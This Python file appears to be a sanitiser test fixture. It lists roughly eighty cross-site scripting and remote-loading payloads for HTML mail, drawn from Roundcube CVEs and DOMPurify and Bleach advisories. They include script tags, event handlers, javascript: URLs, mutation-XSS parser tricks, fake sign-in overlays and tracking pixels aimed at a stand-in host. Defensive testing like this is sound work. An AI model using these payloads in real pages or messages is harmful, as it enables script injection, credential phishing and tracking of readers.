# ruff: noqa: E501 - A vector stays on its line.
"""Ways to run a script or load something out of a letter, as people have found them.

Each does `__evil(n)` where it runs, and names `evil.test` where it loads; sources are CVEs of
Roundcube (2020 to 2026), DOMPurify's and Mozilla Bleach's advisories, and the HTML 5 security
cheat sheet.
"""

from __future__ import annotations

_RUN = "parent.__evil=1;top.__evil=1;window.__evil=1"
_GO = "https://evil.test/"

VECTORS: tuple[str, ...] = tuple(
    line.replace("RUN", _RUN).replace("GO", _GO)
    for line in r"""
<script>RUN</script>
<script src="GOx.js"></script>
<SCRIPT/XSS SRC="GOx.js"></SCRIPT>
<scr<script>ipt>RUN</scr</script>ipt>
<img src=x onerror="RUN">
<img src="x" OnErRoR=RUN>
<img/src/onerror=RUN>
<img src="GOpixel.gif" width=1 height=1>
<img srcset="GOa.png 1x, GOb.png 2x">
<picture><source srcset="GOp.png"><img></picture>
<body onload="RUN"><p>a
<body background="GObg.png">
<table background="GOt.png"><tr><td background="GOd.png">a</table>
<svg onload="RUN"><circle/></svg>
<svg><script>RUN</script></svg>
<svg><animate attributeName=href values="javascript:RUN" /><a id=x><text y=20>click</text></a></svg>
<svg><a><animate attributeName="href" to="javascript:RUN" begin="0s"/><text y="30">click</text></a></svg>
<svg><set attributeName="onmouseover" to="RUN"/></svg>
<svg><use href="data:image/svg+xml;base64,PHN2ZyBpZD0ieCI+PHNjcmlwdD5hPTE8L3NjcmlwdD48L3N2Zz4=#x"/></svg>
<svg><use xlink:href="GOu.svg#x"/></svg>
<svg><image href="GOi.png"/><feImage href="GOf.png"/></svg>
<svg><foreignObject><iframe src="javascript:RUN"></iframe></foreignObject></svg>
<svg><style><img src=x onerror=RUN></style></svg>
<svg></p><style><a id="</style><img src=x onerror=RUN>">
<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=RUN&gt;">
<math><mtext><table><mglyph><style><math><img src onerror=RUN></style></mglyph></table></mtext></math>
<math href="javascript:RUN">click</math>
<math><annotation-xml encoding="text/html"><img src=x onerror=RUN></annotation-xml></math>
<form><math><mtext></form><form><mglyph><style></math><img src onerror=RUN>
<noscript><p title="</noscript><img src=x onerror=RUN>"></noscript>
<textarea><img title="</textarea><img src=x onerror=RUN>"></textarea>
<title><img title="</title><img src=x onerror=RUN>"></title>
<xmp><p title="</xmp><img src=x onerror=RUN>"></xmp>
<noembed><p title="</noembed><img src=x onerror=RUN>"></noembed>
<template><img src=x onerror=RUN></template>
<select><iframe><select><img src=x onerror=RUN></select></iframe></select>
<![CDATA[<img src=x onerror=RUN>]]>
<!--[if IE]><script>RUN</script><![endif]-->
<!--><img src=x onerror=RUN>-->
<a href="javascript:RUN">click</a>
<a href="JaVaScRiPt:RUN">click</a>
<a href="java&#115;cript:RUN">click</a>
<a href="java&Tab;script&colon;RUN">click</a>
<a href=" &#1;javascript:RUN">click</a>
<a href="vbscript:msgbox(1)">click</a>
<a href="data:text/html,<script>RUN</script>">click</a>
<a href="data:text/html;base64,PHNjcmlwdD5hPTE8L3NjcmlwdD4=">click</a>
<a href="blob:null/1">click</a>
<a href="https://halden.test/" ping="GOping">click</a>
<a href="#" onclick="RUN" onmouseover="RUN" onfocus="RUN" autofocus>click</a>
<p style="background:url(GOs.png)">a</p>
<p style="width:expression(RUN);behavior:url(GOb.htc);-moz-binding:url(GOm.xml#a)">a</p>
<p style="background:var(--x, url(GOv.png));list-style:url('GOl.png')">a</p>
<div style="position:fixed;inset:0;z-index:9999"><a href="GOoverlay">Sign in again</a></div>
<style>@import "GOi.css"; body{background:url(GOb.png)} @font-face{font-family:a;src:url(GOf.woff)}</style>
<link rel="stylesheet" href="GOl.css"><link rel="prefetch" href="GOp"><link rel="dns-prefetch" href="GO">
<meta http-equiv="refresh" content="0;url=GOrefresh">
<meta http-equiv="refresh" content="0;url=javascript:RUN">
<base href="GO"><a href="x">click</a><img src="y.png">
<form action="GOform" method=post><input name=password autofocus onfocus=RUN><button>Sign in</button></form>
<button formaction="javascript:RUN">click</button><input type=image src="GOi.png">
<isindex action="javascript:RUN" type=submit>
<iframe src="GOframe"></iframe><iframe srcdoc="<script>RUN</script>"></iframe><iframe src="javascript:RUN"></iframe>
<frameset onload=RUN><frame src="GOf"></frameset>
<object data="GOo.swf"></object><object data="data:text/html,<script>RUN</script>"></object>
<embed src="GOe.svg"><applet code="GOa.class"></applet>
<video poster="GOv.png" src="GOv.mp4" autoplay onloadstart=RUN></video>
<audio src="GOa.mp3" autoplay onerror=RUN></audio><bgsound src="GOb.wav">
<video><source onerror="RUN"><track src="GOt.vtt"></video>
<details open ontoggle=RUN><summary>click</summary></details>
<marquee onstart=RUN loop=1>a</marquee><blink onfinish=RUN>a</blink>
<dialog open onclose=RUN><form method=dialog><button>click</button></form></dialog>
<div popover id=p onbeforetoggle=RUN></div><button popovertarget=p>click</button>
<custom-element is="x" onclick="RUN">click</custom-element>
<keygen autofocus onfocus=RUN><input autofocus onfocus=RUN>
<img name="getElementById" id="csrf_token"><a id="cookie" name="cookie">a</a>
<img src="cid:evil" onload=RUN><img src="cid:&quot; onerror=RUN">
<q cite="javascript:RUN">a</q><blockquote cite="GOq">a</blockquote><del cite="GOd">a</del>
<?xml-stylesheet href="javascript:RUN"?><?php RUN ?><p>a
<img src="//evil.test/relative.png"><img src="\\evil.test\unc.png"><img src="/sign-out">
""".strip().splitlines()
)
